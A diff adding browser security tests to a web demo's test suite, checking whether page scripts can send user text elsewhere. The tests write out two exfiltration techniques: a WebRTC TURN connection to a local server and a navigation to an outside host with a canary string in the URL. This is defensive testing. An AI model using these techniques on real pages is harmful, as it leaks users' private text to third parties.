@@ -1,3 +1,5 @@
+import { createServer } from 'node:net';
+import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
 import {
   DENIED_FEATURES,
@@ -7,6 +9,7 @@ import {
   USED_FEATURES,
 } from '../scripts/headers.js';
 import { CANARY, hasCanary } from './support/canary.ts';
+import { engineWorker } from './support/demo.ts';
 import { expect, test } from './support/test.ts';
 
 const TEXT = `Anna Berg was born in Oslo. ${CANARY} works for Acme Labs.`;
@@ -114,6 +117,69 @@ test('the test would see a page that leaks', async ({ proxied, guard }) => {
   expect(guard.everything.filter((trouble) => trouble.startsWith('left:')).length).toBeGreaterThan(
     Object.keys(LEAKS).length,
   );
+});
+
+test('no script finds a way to other machines that the policy does not know', async ({
+  page,
+  demo,
+}) => {
+  const taken: string[] = [];
+  const server = createServer((socket) => {
+    taken.push('a connection');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  /** Asks a TURN server for an address, which has what the page wants to tell as its name. */
+  const call = (to: Page) =>
+    to.evaluate(async (own) => {
+      const name = ['RTCPeerConnection', 'webkitRTCPeerConnection'].find(
+        (one) => one in globalThis,
+      );
+      if (name === undefined) return 'no way';
+      const urls = `turn:127.0.0.1:${own}?transport=tcp`;
+      const peer = new RTCPeerConnection({
+        iceServers: [{ urls, username: 'text', credential: 'x' }],
+        iceTransportPolicy: 'relay',
+      });
+      peer.createDataChannel('leak');
+      await peer.setLocalDescription();
+      return 'called';
+    }, port);
+
+  await demo.open('model=tiny:flat&device=wasm');
+  expect(await call(page)).toBe('no way');
+  await demo.analyse(TEXT);
+  const worker = await engineWorker(page);
+  expect(await worker.evaluate(() => 'RTCPeerConnection' in globalThis)).toBe(false);
+  expect(taken).toEqual([]);
+
+  await test.step('the test would see one', async () => {
+    await page.route('**/empty.html', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Empty</title>' }),
+    );
+    await page.goto('empty.html');
+    expect(await call(page)).toBe('called');
+    await expect.poll(() => taken.length).toBeGreaterThan(0);
+  });
+  server.close();
+});
+
+test('a script that leads the reader away can take the text along: no page can stop that', async ({
+  proxied,
+  guard,
+}) => {
+  guard.allow(new RegExp(ELSEWHERE, 'u'));
+  const { demo, proxy } = proxied;
+  await demo.open('model=tiny:flat&device=wasm');
+  await demo.page.evaluate(
+    ([url, text]) => {
+      location.href = `${url}?${encodeURIComponent(text)}`;
+    },
+    [`http://${ELSEWHERE}/navigation`, CANARY] as const,
+  );
+  // README says so. Where a browser learns to stop it, this fails, and README can say that.
+  await expect.poll(() => proxy.ofPages.some(({ bytes }) => hasCanary(bytes))).toBe(true);
 });
 
 test('page and worker carry the policy', async ({ page, request, demo }) => {
